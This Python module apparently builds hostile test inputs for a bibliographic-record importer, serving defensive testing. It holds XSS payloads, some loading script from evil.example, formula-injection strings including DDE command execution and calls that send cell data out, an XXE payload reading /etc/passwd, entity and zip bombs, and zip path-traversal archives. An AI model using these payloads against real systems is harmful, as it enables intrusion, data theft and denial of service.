"""Text and files that attackers put into records.

They follow the contexts of OWASP's cheat sheets on XSS, CSV injection and file upload.
Code that should run contains ``MARK``, so that a page can be searched for it.
"""

from __future__ import annotations

import io
import zipfile

MARK = "xss7319"
RUN = f"alert('{MARK}')"

# Text, attribute, URL, script, style, SVG, template and encoding contexts.
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/src=data:,{RUN}></script>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror={RUN}//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` onmouseover={RUN} `",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>{MARK}</a>",
    f"<a href='java&#x09;script:{RUN}'>{MARK}</a>",
    f"<form action=javascript:{RUN}><button>{MARK}</button></form>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>@import '//evil.example/{MARK}.css';</style>",
    f"<p style=\"background:url('//evil.example/{MARK}')\">{MARK}</p>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"{{{{ {MARK} }}}}{{% debug %}}${{{RUN}}}<%= {MARK} %>",
    f"<div hx-get=/accounts/data/ hx-trigger=load data-x={MARK}></div>",
    f"<div hx-on:load={RUN}></div>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:msgbox('{MARK}')",
    f"//evil.example/{MARK}",
    f'https://example.org/"onmouseover="{RUN}',
    f"https://example.org/#<script>{RUN}</script>",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1',
    "';=1+1",
    "%0A=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@=1+1",
    "+=1+1",
    "-=1+1",
    "=-1",
    "=+1",
    "=@A1",
    "=(1+1)",
    "={1}",
    "=\"a\"&\"b\"",
    "=A1:A9",
    "=EXEC(\"calc\")",
)  # fmt: skip


def one_line(text: str) -> str:
    return " ".join(text.split())


def ris() -> bytes:
    """Return a record for each script, link and formula, in every displayed field."""
    lines: list[str] = []
    for number, text in enumerate(SCRIPTS):
        nasty = one_line(text)
        lines += _record(number, f"{nasty} number {number}", nasty, "")
    for number, link in enumerate(LINKS, len(SCRIPTS)):
        lines += _record(number, f"Hostile link {number}", "Plain, A.", link)
    for number, text in enumerate(FORMULAS, len(SCRIPTS) + len(LINKS)):
        lines += _record(number, text, text, "")
    return "\r\n".join(lines).encode()


def _record(number: int, title: str, text: str, link: str) -> list[str]:
    return [
        "TY  - JOUR",
        f"TI  - {title}",
        f"AU  - {text}",
        f"JO  - {text}",
        f"AB  - {text} and so on, number {number}.",
        f"KW  - {text}",
        f"N1  - {text}",
        f"PY  - {1950 + number % 70}",
        f"DO  - 10.5555/{number}{link or text}",
        f"UR  - {link or text}",
        f"L1  - {link or text}",
        "ER  - ",
        "",
    ]


def csv_table() -> bytes:
    """Return the same as a table, headers included."""
    import csv

    out = io.StringIO()
    write = csv.writer(out)
    write.writerow(["Title", "Authors", "Year", "Abstract", "DOI", "URL", "Journal"])
    for number, text in enumerate((*SCRIPTS, *FORMULAS, *LINKS)):
        fields = [f"{text} in a table {number}", text, 1960 + number % 60, text]
        write.writerow([*fields, f"10.5555/t{number}", text, text])
    return out.getvalue().encode()


# ── Files ────────────────────────────────────────────────────────────────────
HTML = f"<!doctype html><script>{RUN}</script>".encode()
SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    f'onload="{RUN}"><script>{RUN}</script></svg>'
).encode()
# Both a PDF (with its header in the first 1024 bytes) and a page.
# A PDF whose catalogue opens a script, an address and a program.
SCRIPTED = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('"
    + MARK.encode()
    + b"'))>>/AA<</O<</S/URI/URI(http://127.0.0.1:1/)>>>>"
    b"/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)>>]>>>>>>endobj\n"
)
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;\n"
POLYGLOT = b"<script>" + RUN.encode() + b"</script>\n%PDF-1.4\n"


def xxe(address: str) -> bytes:
    """Return XML that asks for a local file and for an address."""
    return (
        '<?xml version="1.0"?><!DOCTYPE xml ['
        '<!ENTITY file SYSTEM "file:///etc/passwd">'
        f'<!ENTITY away SYSTEM "{address}/entity">'
        f'<!ENTITY % dtd SYSTEM "{address}/dtd"> %dtd;]>'
        "<xml><records><record><titles><title>&file;&away;</title></titles>"
        "</record></records></xml>"
    ).encode()


def entity_bomb() -> bytes:
    """Return XML whose entities expand a thousand million times."""
    levels = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lol">'
        for n in range(10)
    )
    return (
        f'<?xml version="1.0"?><!DOCTYPE xml [{levels}]>'
        "<xml><records><record><titles><title>&l9;</title></titles>"
        "</record></records></xml>"
    ).encode()


def _zipped(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(megabytes: int = 300) -> bytes:
    """Return some hundred kilobytes that unpack to much more."""
    return _zipped(("bomb.ris", b"\0" * (megabytes << 20)))


def nested_bomb() -> bytes:
    """Return an archive in an archive in an archive."""
    inner = zip_bomb(50)
    for _ in range(3):
        inner = _zipped(*((f"{n}.zip", inner) for n in range(4)))
    return inner


def traversal(name: str) -> bytes:
    """Return an archive with a member outside its directory."""
    good = b"TY  - JOUR\r\nTI  - From an archive with paths\r\nER  - \r\n"
    return _zipped((f"../../../../../../tmp/{name}", good), (f"/tmp/{name}", good))  # noqa: S108
